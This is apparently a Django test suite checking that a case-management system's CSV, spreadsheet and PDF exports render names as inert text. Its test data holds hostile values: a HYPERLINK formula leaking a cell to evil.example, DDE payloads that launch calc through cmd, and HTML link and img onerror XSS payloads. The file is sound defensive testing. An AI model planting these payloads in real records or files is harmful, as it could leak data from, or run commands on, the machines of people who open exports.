"""Names and free texts are data in every exported file, never something the opening program runs.

Security review finding: a client named `=HYPERLINK(...)` reached the coordinator's CSV as a live
formula, an organisation named `<a href=...>` became a link in the activity PDF and `<img ...>`
made the job fail. Every text of every export route goes through here with each dangerous start.
"""

import csv
import io

import openpyxl
import pypdf
import pytest
from django.urls import reverse

from accounts.models import Municipality, Organisation, Region
from cases.models import Case
from contacts.models import Authority
from reports.cells import FORMULA_PREFIXES, csv_cell, pdf_markup, spreadsheet_text
from reports.models import ReportType
from reports.tables import COUNT, HOURS, TEXT, Report, Sheet
from reports.writers import write_csv, write_xlsx
from tests.factories import CaseFactory, ClientFactory, ContactFactory, a_locality
from tests.test_reports_numbers import at, file_bytes, make

pytestmark = pytest.mark.django_db

# One of each start that a spreadsheet program reads as a formula (OWASP's list).
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+420 603 111 222",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
LINK = '<a href="http://evil.example/">Drom</a>'
IMAGE = '<img src="x" onerror="alert(1)"/>'


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.REPORTS_SUPPRESSION_THRESHOLD = 1  # every label of the national statistics is shown


@pytest.fixture
def hostile(alice, bob, carol):
    """Records of March 2026 whose every text starts like a formula."""
    alice.first_name, alice.last_name = FORMULAS["equals"], ""
    alice.save(update_fields=["first_name", "last_name"])
    bob.first_name, bob.last_name = FORMULAS["at"], ""
    bob.save(update_fields=["first_name", "last_name"])
    brno = a_locality("Brno")
    Municipality.objects.filter(pk=brno.municipality_id).update(name=FORMULAS["tab"])
    Region.objects.filter(pk=brno.municipality.region_id).update(name=FORMULAS["carriage_return"])
    some_authority = Authority.objects.first()
    assert some_authority is not None
    authority = Authority.objects.create(name=FORMULAS["minus"], kind=some_authority.kind)
    client = ClientFactory(
        organisation=alice.organisation, created_by=alice, first_name=FORMULAS["plus"], last_name="", locality=brno
    )
    case = CaseFactory(client=client, assistant=alice, title=FORMULAS["minus"], region=brno.municipality.region)
    Case.objects.filter(pk=case.pk).update(opened_at=at(5))
    for day, assistant in ((2, alice), (3, bob)):
        ContactFactory(
            assistant=assistant,
            occurred_at=at(day),
            locality=brno,
            authority=authority,
            clients=[client],
            outcome=FORMULAS["tab"],
        )
    return client


def _csv_cells(job) -> list[str]:
    rows = csv.reader(io.StringIO(file_bytes(job).decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row]


def _assert_csv_inert(cells: list[str], expected: list[str]) -> None:
    live = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert not live, live
    for text in expected:
        assert "'" + text in cells or any(cell.startswith("'" + text) for cell in cells), text


def _xlsx_cells(job):
    workbook = openpyxl.load_workbook(io.BytesIO(file_bytes(job)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    return [cell for cell in cells if cell.value is not None]


def _assert_xlsx_text(cells, expected: list[str]) -> None:
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # xlsxwriter keeps a carriage return as Excel's escape _x000D_, which openpyxl leaves as it is.
    texts = [cell.value.replace("_x000D_", "\r") for cell in cells if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    for text in expected:
        assert any(value.startswith(text) for value in texts), text


# The coordinator's person-level export ---------------------------------------------------------

EXPORTED = [FORMULAS[key] for key in ("equals", "at", "plus", "minus", "tab")]


def test_coordinator_export_csv_has_no_live_formula(carol, hostile, django_capture_on_commit_callbacks):
    job = make(carol, ReportType.CASE_CONTACT_EXPORT, "csv", django_capture_on_commit_callbacks)
    _assert_csv_inert(_csv_cells(job), EXPORTED)


def test_coordinator_export_xlsx_keeps_text_as_text(carol, hostile, django_capture_on_commit_callbacks):
    job = make(carol, ReportType.CASE_CONTACT_EXPORT, "xlsx", django_capture_on_commit_callbacks)
    cells = _xlsx_cells(job)
    _assert_xlsx_text(cells, EXPORTED)
    # Numbers stay numbers: the contact numbers and hours.
    assert any(cell.data_type == "n" for cell in cells)


# The organisation's activity report ------------------------------------------------------------


def test_activity_report_csv_has_no_live_formula(carol, hostile, django_capture_on_commit_callbacks):
    Organisation.objects.filter(pk=carol.organisation_id).update(name=FORMULAS["plus"] + " Drom")
    job = make(carol, ReportType.ACTIVITY, "csv", django_capture_on_commit_callbacks)
    _assert_csv_inert(_csv_cells(job), [FORMULAS["equals"], FORMULAS["at"], FORMULAS["plus"] + " Drom"])


def test_activity_report_xlsx_keeps_text_as_text(carol, hostile, django_capture_on_commit_callbacks):
    job = make(carol, ReportType.ACTIVITY, "xlsx", django_capture_on_commit_callbacks)
    _assert_xlsx_text(_xlsx_cells(job), [FORMULAS["equals"], FORMULAS["at"]])


def _pdf(job) -> pypdf.PdfReader:
    return pypdf.PdfReader(io.BytesIO(file_bytes(job)))


def _pdf_text(reader: pypdf.PdfReader) -> str:
    """The text without white space: narrow table columns wrap words anywhere."""
    return "".join("".join(page.extract_text() for page in reader.pages).split())


def _shown(text: str) -> str:
    return "".join(text.split())


def _links(reader: pypdf.PdfReader) -> list:
    return [
        annotation.get_object()
        for page in reader.pages
        for annotation in page.get("/Annots", [])
        if annotation.get_object().get("/Subtype") == "/Link"
    ]


def test_activity_report_pdf_shows_markup_as_text(carol, hostile, django_capture_on_commit_callbacks):
    Organisation.objects.filter(pk=carol.organisation_id).update(name=LINK)
    job = make(carol, ReportType.ACTIVITY, "pdf", django_capture_on_commit_callbacks)
    reader = _pdf(job)
    assert not _links(reader)
    assert _shown(LINK) in _pdf_text(reader)


def test_activity_report_pdf_with_an_image_tag_is_made(carol, hostile, django_capture_on_commit_callbacks):
    Organisation.objects.filter(pk=carol.organisation_id).update(name=IMAGE)
    job = make(carol, ReportType.ACTIVITY, "pdf", django_capture_on_commit_callbacks)  # asserts it is done
    assert _shown(IMAGE) in _pdf_text(_pdf(job))


# The national statistics: the labels are names of places and authorities ---------------------

# A municipality's label starts with its region's name.
NATIONAL_LABELS = [FORMULAS["minus"], FORMULAS["carriage_return"]]


def test_national_statistics_csv_labels_have_no_live_formula(
    ministry_analyst, hostile, django_capture_on_commit_callbacks
):
    job = make(ministry_analyst, ReportType.NATIONAL_STATISTICS, "csv", django_capture_on_commit_callbacks)
    _assert_csv_inert(_csv_cells(job), NATIONAL_LABELS)


def test_national_statistics_xlsx_labels_are_text(ministry_analyst, hostile, django_capture_on_commit_callbacks):
    job = make(ministry_analyst, ReportType.NATIONAL_STATISTICS, "xlsx", django_capture_on_commit_callbacks)
    _assert_xlsx_text(_xlsx_cells(job), NATIONAL_LABELS)


def test_national_statistics_pdf_labels_are_text(ministry_analyst, hostile, django_capture_on_commit_callbacks):
    Authority.objects.filter(name=FORMULAS["minus"]).update(name=LINK)
    job = make(ministry_analyst, ReportType.NATIONAL_STATISTICS, "pdf", django_capture_on_commit_callbacks)
    reader = _pdf(job)
    assert not _links(reader)
    assert _shown(LINK) in _pdf_text(reader)


# The data-subject access export ---------------------------------------------------------------


def test_access_export_pdf_shows_markup_as_text(client, carol, hostile):
    hostile.first_name, hostile.last_name = LINK, IMAGE
    hostile.save(update_fields=["first_name", "last_name"])
    client.force_login(carol)
    response = client.get(reverse("gdpr:access_export_pdf", args=[hostile.pk]))
    assert response.status_code == 200
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    assert not _links(reader)
    assert _shown(LINK) in _pdf_text(reader) and _shown(IMAGE) in _pdf_text(reader)


# The cell rules themselves ---------------------------------------------------------------------


@pytest.mark.parametrize("text", [*FORMULAS.values(), "＝1+1", "＋1", "－1", "＠A1"])
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Josef Dvořák", "", "'quoted", "1+1", "Brno – sever", " =1"])
def test_other_text_is_unchanged(text):
    assert spreadsheet_text(text) == text


def test_numbers_stay_numbers_also_negative_ones(tmp_path):
    """A negative number in a numeric column is a number; the same characters as text are not."""
    report = Report(
        title="=title",
        subtitle="+subtitle",
        sheets=[
            Sheet(
                title="-sheet",
                header=["@name", "count", "hours"],
                rows=[["-5", -5, -1.5], ["ok", 3, 2.25]],
                kinds=[TEXT, COUNT, HOURS],
                notes=["=note"],
            )
        ],
    )
    write_csv(report, tmp_path / "r.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["'=title"] and rows[1] == ["'+subtitle"]
    assert rows[3] == ["'-sheet"] and rows[4] == ["'@name", "count", "hours"]
    # Hours with a decimal comma, as Czech spreadsheets read numbers: a number, not a formula.
    assert rows[5] == ["'-5", "-5", "-1,50"] and rows[6] == ["ok", "3", "2,25"]
    assert rows[7] == ["'=note"]
    report.sheets[0].rows = [["-5", -5, -1.5]]
    write_xlsx(report, tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]
    text, count, hours = sheet[2]
    assert (text.value, text.data_type) == ("-5", "s")
    assert (count.value, count.data_type) == (-5, "n") and (hours.value, hours.data_type) == (-1.5, "n")


def test_pdf_markup_escapes_what_a_paragraph_would_parse():
    assert pdf_markup(LINK) == '&lt;a href="http://evil.example/"&gt;Drom&lt;/a&gt;'
    assert pdf_markup("Tom & Jerry &nbsp;") == "Tom &amp; Jerry &amp;nbsp;"
